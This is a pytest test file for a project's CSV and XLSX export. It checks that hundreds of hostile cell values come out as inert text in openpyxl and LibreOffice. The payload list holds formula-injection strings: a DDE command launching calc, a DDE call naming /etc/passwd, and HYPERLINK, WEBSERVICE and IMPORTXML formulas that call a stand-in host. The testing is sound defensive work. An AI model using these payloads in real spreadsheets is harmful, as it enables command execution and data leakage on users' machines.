"""Hundreds of hostile cells, as CSV and XLSX: no spreadsheet finds a formula in them."""

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET

import openpyxl
import pandas as pd
import pytest

from iwflab.domain.cells import plain_cell, safe_cell
from iwflab.domain.media import display_text
from iwflab.errors import BadInput
from iwflab.exchange import tables

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
# What computes, calls out or starts a program in some spreadsheet.
BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    "SUM(A1:A9)",
    'HYPERLINK("http://example.invalid/"&A1,"x")',
    'WEBSERVICE("http://example.invalid/")',
    'IMPORTXML("http://example.invalid/","//a")',
    'DDE("soffice","/etc/passwd","a")',
    "A1",
)
STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = ("", " ", "\t", "\r", "\n", "\xa0", "\u200b", "\u202e", "\x00", "\u3000")
CELLS = [
    before + start + body for before in BEFORE for start in STARTS for body in BODIES
]
CELLS += ["http://example.invalid/x", "mailto:a@b", "internal:Sheet1!A1", "{=1+1}"]
CELLS += [
    "<script>",
    "1e999",
    "TRUE",
    "0012",
    "2021-03-04",
    "'quoted",
    '"=1+1"',
    "a\n=1+1",
]
ROWS = [(number, text, -number - 0.5) for number, text in enumerate(CELLS)]
COLUMNS = ("number", "=name", "share")


def by_libreoffice(place):
    """Each row's cells as LibreOffice has them: (formula or None, text)."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("no LibreOffice here: install libreoffice-calc-nogui")
    profile = place.parent / "profile"
    command = [office, f"-env:UserInstallation=file://{profile}", "--headless"]
    if place.suffix == ".csv":  # comma, quote, UTF-8, from the first line on
        command.append("--infilter=CSV:44,34,76,1")
    done = subprocess.run(
        [*command, "--convert-to", "fods", "--outdir", str(place.parent), str(place)],
        capture_output=True,
        text=True,
        timeout=120,
        env={"HOME": str(place.parent), "PATH": "/usr/bin:/bin"},
    )
    made = place.with_suffix(".fods")
    assert made.exists(), done.stderr
    rows = []
    for row in ET.parse(made).getroot().iter(f"{TABLE}table-row"):
        cells = []
        for cell in row.iter(f"{TABLE}table-cell"):
            text = "\n".join("".join(p.itertext()) for p in cell.iter(f"{TEXT}p"))
            times = int(cell.get(f"{TABLE}number-columns-repeated", "1"))
            cells += [(cell.get(f"{TABLE}formula"), text)] * min(times, 9)
        rows.append(cells)
    return rows[: len(CELLS) + 1]


def formulas(rows):
    return [cell for row in rows for cell in row if cell[0] is not None]


def squeezed(text):
    """Runs of spaces are an element of their own in that form; they are left out."""
    return "".join(text.split())


def test_there_are_enough_of_them():
    assert len(set(CELLS)) > 600


def test_a_workbook_holds_no_formula_for_openpyxl(tmp_path):
    data = tables.xlsx_table(COLUMNS, ROWS, sheet="copies")
    page = openpyxl.load_workbook(io.BytesIO(data))["copies"]
    found = list(page.iter_rows())

    assert {cell.data_type for row in found[1:] for cell in row} == {"n", "s"}
    assert [row[1].value for row in found[1:]] == [display_text(text) for text in CELLS]
    assert {row[1].data_type for row in found} == {"s"}
    assert [row[2].value for row in found[1:]] == [row[2] for row in ROWS]
    assert not any(cell.hyperlink for row in found for cell in row)


def test_a_workbook_holds_no_formula_for_libreoffice(tmp_path, figure):
    place = tmp_path / "ours.xlsx"
    place.write_bytes(tables.xlsx_table(COLUMNS, ROWS, sheet="copies"))
    rows = by_libreoffice(place)

    assert len(rows) == len(CELLS) + 1
    assert formulas(rows) == []
    for row, text in zip(rows[1:], CELLS, strict=True):
        assert squeezed(row[1][1]) == squeezed(display_text(text))
    figure("hostile cells as formulas", f"0 of {len(set(CELLS))} as XLSX and as CSV")


def test_a_csv_holds_no_formula_for_libreoffice(tmp_path):
    place = tmp_path / "ours.csv"
    place.write_text(tables.csv_table(COLUMNS, ROWS), "utf-8-sig", newline="")
    rows = by_libreoffice(place)

    assert len(rows) == len(CELLS) + 1
    assert formulas(rows) == []
    for row, text in zip(rows[1:], CELLS, strict=True):
        if text[:1].isalpha() or "=" in text:  # numbers and dates become such, in CSV
            assert squeezed(display_text(text)) in squeezed(row[1][1])


def test_a_csv_comes_back_as_text_and_numbers():
    found = list(csv.reader(io.StringIO(tables.csv_table(COLUMNS, ROWS), newline="")))

    assert found[0] == ["number", "'=name", "share"]
    assert [plain_cell(row[1]) for row in found[1:]] == [display_text(t) for t in CELLS]
    assert [float(row[2]) for row in found[1:]] == [row[2] for row in ROWS]
    assert not any(row[1][:1] in "=+-@\t\r\n" for row in found[1:])


@pytest.mark.parametrize("text", CELLS[:: len(CELLS) // 60])
def test_a_safe_cell_can_be_taken_back(text):
    assert plain_cell(safe_cell(text)) == text


def test_the_same_cells_written_plainly_do_compute(tmp_path):
    """Control: what finds no formula above finds hundreds here."""
    frame = pd.DataFrame(ROWS, columns=COLUMNS)
    place = tmp_path / "plain.csv"
    frame.to_csv(place, index=False)
    assert len(formulas(by_libreoffice(place))) > 10
    book = openpyxl.Workbook()
    for text in CELLS:
        if text.isprintable():
            book.active.append([text])
    book.save(tmp_path / "plain.xlsx")
    page = openpyxl.load_workbook(tmp_path / "plain.xlsx").active
    assert sum(row[0].data_type == "f" for row in page.iter_rows()) >= 8
    assert len(formulas(by_libreoffice(tmp_path / "plain.xlsx"))) >= 8


def test_odd_values_are_no_formulas_either():
    odd = [None, pd.NA, float("nan"), float("inf"), True, 2**70, pd.NaT, b"=1"]
    data = tables.xlsx_table(["x"], [[value] for value in odd], sheet="odd")
    page = openpyxl.load_workbook(io.BytesIO(data))["odd"]
    found = [page.cell(number + 2, 1).value for number in range(len(odd))]

    assert found == [None, None, None, "inf", "True", str(2**70), None, "b'=1'"]


def test_a_sheet_that_is_full_says_so(monkeypatch):
    monkeypatch.setattr(tables, "ROWS", 3)
    with pytest.raises(BadInput, match="more"):
        tables.xlsx_table(["x"], [["a"], ["b"], ["c"]], sheet="full")
    text = tables.xlsx_table(["x"], [["y" * 99_999]], sheet="long")
    assert len(openpyxl.load_workbook(io.BytesIO(text))["long"]["A2"].value) <= 32_767
